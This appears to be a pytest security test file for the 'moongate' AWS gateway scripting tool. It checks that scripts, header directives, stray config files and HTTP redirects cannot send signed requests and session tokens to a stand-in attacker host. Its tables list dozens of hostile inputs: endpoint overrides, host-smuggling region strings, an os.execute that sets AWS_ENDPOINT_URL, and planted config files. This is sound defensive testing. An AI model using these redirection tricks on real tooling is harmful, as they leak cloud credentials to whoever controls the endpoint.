# Where signed requests go is the operator's alone to say: whoever chooses that gets the session token with the first
# request. Every way that a script might try, as own code with every grant but that, and as shared code;
# and every file that somebody could leave in the folder of work. Behind each of them the other place has heard nothing.
import json

import pytest

from canned_server import GATEWAY, Raw
from moongate import CREDENTIALS

EVIL = "@EVIL@"
CALL = "list_gateways():count()"

# What a script may write; @EVIL@ is the other place. Each is tried to its end, and then a call is made.
WAYS = {
    "connect": f'local s = connect{{ endpoint = "{EVIL}" }} s.{CALL}',
    "connect with a region": f'local s = connect{{ region = "us-east-1", endpoint = "{EVIL}" }} s.{CALL}',
    "connect by AWS's name": f'local s = connect{{ endpoint_url = "{EVIL}" }} s.{CALL}',
    "use": f'use(connect{{ endpoint = "{EVIL}" }})',
    "use of a table": f'use{{ endpoint = "{EVIL}" }}',
    "a session is assigned": f'session.endpoint = "{EVIL}"',
    "another session is assigned": f'session = {{ endpoint = "{EVIL}" }}',
    "a session is set raw": f'rawset(session, "endpoint", "{EVIL}")',
    "a session of moongate": f'moongate.session = {{ endpoint = "{EVIL}" }}',
    "its metatable": f'getmetatable(session).__index.endpoint = "{EVIL}"',
    "another metatable": f'setmetatable(session, {{ __index = {{ endpoint = "{EVIL}" }} }})',
    "an option of call": f'call("ListGateways", {{}}, {{ endpoint = "{EVIL}" }})',
    "a parameter of call": f'call("ListGateways", {{ endpoint = "{EVIL}" }})',
    "call by a path": f'call("{EVIL}/ListGateways", {{}})',
    "a parameter": f'list_gateways{{ endpoint = "{EVIL}" }}:count()',
    "a fleet": f'for g in fleet{{ regions = {{ "us-east-1" }}, endpoint = "{EVIL}" }}.list_gateways() do end',
    "a fleet's region": f'for g in fleet{{ regions = {{ "{EVIL}" }} }}.list_gateways() do end',
    "a target's endpoint": f'for g in fleet().list_gateways() do g.target.endpoint = "{EVIL}" g.target.{CALL} end',
    "a region that is an address": f'connect{{ region = "{EVIL}/" }}.{CALL}',
    "a region with a host in it": 'connect{ region = "us-east-1.evil.example/" }.list_gateways():count()',
    "a region that ends the host": 'connect{ region = "x@evil.example#" }.list_gateways():count()',
    "a profile that is an address": f'connect{{ profile = "{EVIL}" }}.{CALL}',
    "a role that is one": f'connect{{ role_arn = "{EVIL}" }}.{CALL}',
    "an ARN that is one": f'get_gateway("{EVIL}")',
    "a variable of the process": f'os.setenv("AWS_ENDPOINT_URL", "{EVIL}")',
    "a global": f'AWS_ENDPOINT_URL, endpoint, endpoint_url = "{EVIL}", "{EVIL}", "{EVIL}"',
    "a child's variable": f'os.execute("export AWS_ENDPOINT_URL={EVIL}")',
    "the operator's file": f'local f = assert(io.open("home/.aws/config", "w")) f:write("[default]\\nendpoint_url={EVIL}\\n") f:close() connect{{ region = "us-east-1" }}.{CALL}',
    "our own file": f'local f = assert(io.open("home/.config/moongate/config", "w")) f:write("[moongate]\\nendpoint={EVIL}\\n") f:close() connect{{ region = "us-east-1" }}.{CALL}',
    "a module beside it": f'require("evil")',
    "the lab": f'gateway_lab.endpoint = "{EVIL}" gateway_lab.metrics{{ endpoint = "{EVIL}" }}',
    "a list of changes": f'local todo = changes("x", {{ endpoint = "{EVIL}" }}) todo:run{{ endpoint = "{EVIL}" }}',
    "a waiting": f'wait(get_gateway, "{GATEWAY["GatewayArn"]}", {{ endpoint = "{EVIL}", every = "1s", timeout = "1s", field = "x", is = 1 }})',
    "arguments": f'args.endpoint = "{EVIL}" arg = {{ "--endpoint", "{EVIL}" }}',
}  # fmt: skip

# What a header may say.
HEADERS = {
    f"@endpoint {EVIL}": 252, f"@endpoint_url {EVIL}": 252, f"@connect {EVIL}": 252, f"@grant endpoint={EVIL}": 252,
    f"@allow read endpoint={EVIL}": 252, f"@region {EVIL}": 252, "@profile evil": 252, f"@registry {EVIL}": 252,
    f"@limit endpoint={EVIL}": 252, f"@arg endpoint string={EVIL} An argument is only that": 0,
}  # fmt: skip

# Files in the folder of work, none of which is anybody's configuration.
FILES = [
    ".aws/config", ".aws/credentials", "config", "credentials", ".env", ".moongate", ".moongate/config", "moongate.conf",
    ".config/moongate/config", ".moongaterc", "init.lua", ".awsrc", "aws.config", "moongate/init.lua",
]  # fmt: skip
CONTENT = f"[default]\nendpoint_url = {EVIL}\nendpoint = {EVIL}\nAWS_ENDPOINT_URL={EVIL}\n[moongate]\nendpoint = {EVIL}\n"


@pytest.fixture
def places(canned):
    """Where the operator sends requests, and the other place."""
    answer = lambda request: {"Gateways": [GATEWAY], "Gateway": GATEWAY}
    return canned(answer), canned(answer)


@pytest.fixture
def run(moongate, places):
    own, evil = places
    (moongate.home / ".aws").mkdir()
    (moongate.home / ".aws/config").write_text("[default]\nregion = us-east-1\n")
    (moongate.home / ".config/moongate").mkdir(parents=True)

    def run(text, *options):
        moongate.write("evil.lua", f'return connect{{ endpoint = "{evil.endpoint}" }}.list_gateways():count()')
        path = moongate.write("script.lua", text.replace(EVIL, evil.endpoint))
        return moongate("--endpoint", own.endpoint, *options, path, env={**CREDENTIALS, "AWS_REGION": "us-east-1"})

    return run


def tried(code):
    return f"print(pcall(assert(load({json.dumps(code)}))))\nprint(pcall(function() return {CALL} end))\n"


GRANTS = ["--grant", "read=.", "--grant", "write=.", "--grant", "run", "--grant", "env=HOME"]


@pytest.mark.parametrize("way", WAYS)
@pytest.mark.parametrize("options", [GRANTS, ["--untrusted"]], ids=["own", "shared"])
def test_no_script_chooses_where_requests_go(run, places, way, options):
    own, evil = places
    result = run("-- @allow read\n" + tried(WAYS[way]), *options)
    assert evil.requests == [] and evil.connections == 0, result
    # And what it calls then goes where it should, unless the script has lost its own names by what it did.
    assert own.requests or result.code != 0, result


@pytest.mark.parametrize("header", HEADERS)
@pytest.mark.parametrize("options", [[], ["--untrusted"]], ids=["own", "shared"])
def test_no_header_does(run, places, header, options):
    own, evil = places
    allow = "" if header.startswith("@allow") else "-- @allow read\n"
    result = run(f"{allow}-- {header}\nprint({CALL})\n", *options)
    assert evil.requests == [] and result.code == HEADERS[header], result


@pytest.mark.parametrize("file", FILES)
def test_no_file_of_the_folder_of_work_does(moongate, run, places, file):
    own, evil = places
    path = moongate.folder / file
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(CONTENT.replace(EVIL, evil.endpoint))
    assert run(f"print({CALL})").stdout == "1\n"
    assert (len(own.requests), evil.requests) == (1, [])


@pytest.mark.parametrize("status", [300, 301, 302, 303, 304, 305, 307, 308])
@pytest.mark.parametrize("options", [[], ["--untrusted"]], ids=["own", "shared"])
def test_no_answer_does(run, places, canned, moongate, status, options):
    """A redirection is an answer that says nothing."""
    _, evil = places
    moved = canned(lambda request: Raw("", status, {"Location": evil.endpoint + "/", "Refresh": f"0; url={evil.endpoint}"}))
    path = moongate.write("moved.lua", f"-- @allow read\nprint({CALL})\n")
    variables = {**CREDENTIALS, "AWS_REGION": "us-east-1", "AWS_MAX_ATTEMPTS": "1"}
    result = moongate("--endpoint", moved.endpoint, *options, path, env=variables)
    assert result.code in (254, 255) and evil.requests == [] and len(moved.requests) == 1, result


def test_the_operator_does(run, places):
    """What the tables above are worth: with a grant for that place the first way leads there."""
    own, evil = places
    assert run(tried(WAYS["connect"]), "--grant", f"endpoint={evil.endpoint}").code == 0
    assert [request.operation for request in evil.requests] == ["ListGateways"]
